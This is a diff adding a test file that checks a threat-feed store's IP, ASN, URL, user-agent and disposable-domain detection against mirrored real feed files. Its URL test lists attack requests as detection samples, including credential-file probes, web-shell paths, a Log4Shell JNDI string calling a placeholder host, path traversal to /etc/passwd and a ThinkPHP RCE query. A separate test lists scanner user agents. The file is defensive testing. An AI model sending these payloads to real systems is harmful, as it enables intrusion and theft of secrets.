@@ -1,0 +1,155 @@
+import { existsSync } from "node:fs";
+import { mkdtemp } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { fileURLToPath } from "node:url";
+import { beforeAll, describe, expect, it } from "vitest";
+import { systemClock } from "@/lib/clock";
+import { readFeeds } from "./feeds-file";
+import { createFeedStore, type FeedStoreHandle } from "./store";
+import { ip } from "./testing/feeds";
+import { ORDINARY_URLS } from "./testing/ordinary-urls";
+import { PEOPLES_USER_AGENTS } from "./testing/peoples-user-agents";
+import type { FeedCategory } from "./types";
+
+/* The whole catalogue against a stored copy of the real files, where there is one beside the project. */
+const MIRROR = fileURLToPath(new URL("../../../shared/mirror", import.meta.url));
+const hasMirror = existsSync(MIRROR);
+if (!hasMirror)
+  console.info(`skipped: the catalogue against real files, since there is no ${MIRROR}`);
+
+const BLOCKING: readonly FeedCategory[] = [
+  "threat-feeds",
+  "ip-database",
+  "malicious-activity",
+  "vpn",
+  "proxy",
+  "tor",
+];
+
+describe.skipIf(!hasMirror)("the catalogue on real files", () => {
+  let opened: FeedStoreHandle;
+  beforeAll(async () => {
+    opened = createFeedStore({
+      feeds: readFeeds(undefined),
+      directory: await mkdtemp(join(tmpdir(), "feeds-mirror-")),
+      mirror: MIRROR,
+      clock: systemClock,
+    });
+    await opened.sync();
+  }, 60_000);
+
+  const matches = (address: string) => opened.current().ip(ip(address));
+  const categories = (address: string) => matches(address).map(({ category }) => category);
+
+  it("loads every switched-on feed without a bad line", () => {
+    const notGood = opened
+      .status()
+      .filter(({ state, reason }) => state !== "fresh" || reason !== null);
+    expect(notGood).toEqual([]);
+  });
+
+  it.each([
+    ["8.8.8.8", 15169],
+    ["73.223.10.20", 33651],
+    ["172.56.21.89", 21928],
+    ["114.124.200.1", 23693],
+    ["88.198.50.10", 24940],
+    ["185.220.101.5", 60729],
+    ["2a01:4f8::1", 24940],
+    ["2607:fb90::1", 21928],
+  ])("%s is announced by AS%i", (address, asn) => {
+    expect(opened.current().asn(ip(address))?.asn).toBe(asn);
+  });
+
+  it("knows a Tor exit as Tor and VPN, with the entries", () => {
+    const found = matches("185.220.101.5").map(({ category, entry }) => `${category} ${entry}`);
+    expect(found).toContain("tor 185.220.101.5");
+    expect(found).toContain("vpn 185.220.101.0/24");
+    expect(found).toContain("threat-feeds 185.220.101.5");
+  });
+
+  it("knows anycast, hosting, cellular networks and search engines", () => {
+    expect(categories("8.8.8.8")).toEqual(expect.arrayContaining(["anycast", "hosting"]));
+    expect(categories("88.198.50.10")).toContain("hosting");
+    expect(categories("2a01:4f8::1")).toContain("hosting");
+    const cellular = opened
+      .current()
+      .asnLists(21928)
+      .map(({ category }) => category);
+    expect(cellular).toEqual(["asn-cellular"]);
+    const engines = matches("66.249.66.1").filter(({ category }) => category === "search-engine");
+    expect(engines.map(({ name, entry }) => `${name} ${entry}`)).toEqual(["Google 66.249.66.0/24"]);
+  });
+
+  it.each([
+    ["a home", "73.223.10.20"],
+    ["a phone", "172.56.21.89"],
+    ["a phone in Indonesia", "114.124.200.1"],
+    ["Googlebot", "66.249.66.1"],
+    ["Bing's crawler", "40.77.167.1"],
+    ["Google's resolver", "8.8.8.8"],
+    ["Cloudflare's resolver", "1.1.1.1"],
+    ["Quad9", "9.9.9.9"],
+    ["an office behind Check Point's gateway", "134.238.1.1"],
+    ["a private address", "192.168.1.1"],
+  ])("does not hold %s for a threat (%s)", (_, address) => {
+    expect(categories(address).filter((category) => BLOCKING.includes(category))).toEqual([]);
+  });
+
+  it.each(ORDINARY_URLS)("does not take %s for an attack", (url) => {
+    expect(opened.current().threatUrl(url)).toBeNull();
+  });
+
+  it.each(
+    [
+      "https://shop.example/.env",
+      "https://shop.example/app/.git/config",
+      "https://shop.example/.aws/credentials",
+      "https://shop.example/wp-content/uploads/c99.php",
+      "https://shop.example/alfa-rex.php",
+      "https://shop.example/?x=\u0024{jndi:ldap://203.0.113.1/a}",
+      "https://shop.example/../../etc/passwd",
+      "https://shop.example/index.php?s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=x",
+      "https://shop.example/boaform/admin/formLogin",
+      "https://shop.example/_ignition/execute-solution",
+      "https://shop.example/vendor/phpunit/src/Util/PHP/eval-stdin.php",
+      "https://shop.example/?page=php://filter/resource=index",
+    ].map((url) => [url]),
+  )("takes %s for an attack", (url) => {
+    expect(opened.current().threatUrl(url)?.category).toBe("threat-url");
+  });
+
+  it.each(PEOPLES_USER_AGENTS)("does not take a person for a bad bot: %s", (ua) => {
+    expect(opened.current().userAgent(ua)).toBeNull();
+  });
+
+  it.each(
+    [
+      "sqlmap/1.7.2#stable (https://sqlmap.org)",
+      "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
+      "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+      "Mozilla/5.0 zgrab/0.x",
+      "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
+      "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+      "Mozilla/4.5 (compatible; HTTrack 3.0x; Windows 98)",
+      "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+      "gobuster/3.1.0",
+      "Mozilla/5.0 (compatible; BLEXBot/1.0; +http://webmeup-crawler.com/)",
+      "Scrapy/2.11.0 (+https://scrapy.org)",
+      "Mozilla/3.0 (compatible; Indy Library)",
+      "Morfeus Fucking Scanner",
+    ].map((ua) => [ua]),
+  )("takes %s for a bad bot", (ua) => {
+    expect(opened.current().userAgent(ua)?.category).toBe("user-agent");
+  });
+
+  it("knows disposable domains, and not the big mail providers", () => {
+    expect(opened.current().disposableDomain("mailinator.com")?.feed).toBe(
+      "disposable-email-domains",
+    );
+    for (const domain of ["gmail.com", "outlook.com", "yahoo.com", "proton.me", "icloud.com"]) {
+      expect(opened.current().disposableDomain(domain)).toBeNull();
+    }
+  });
+});
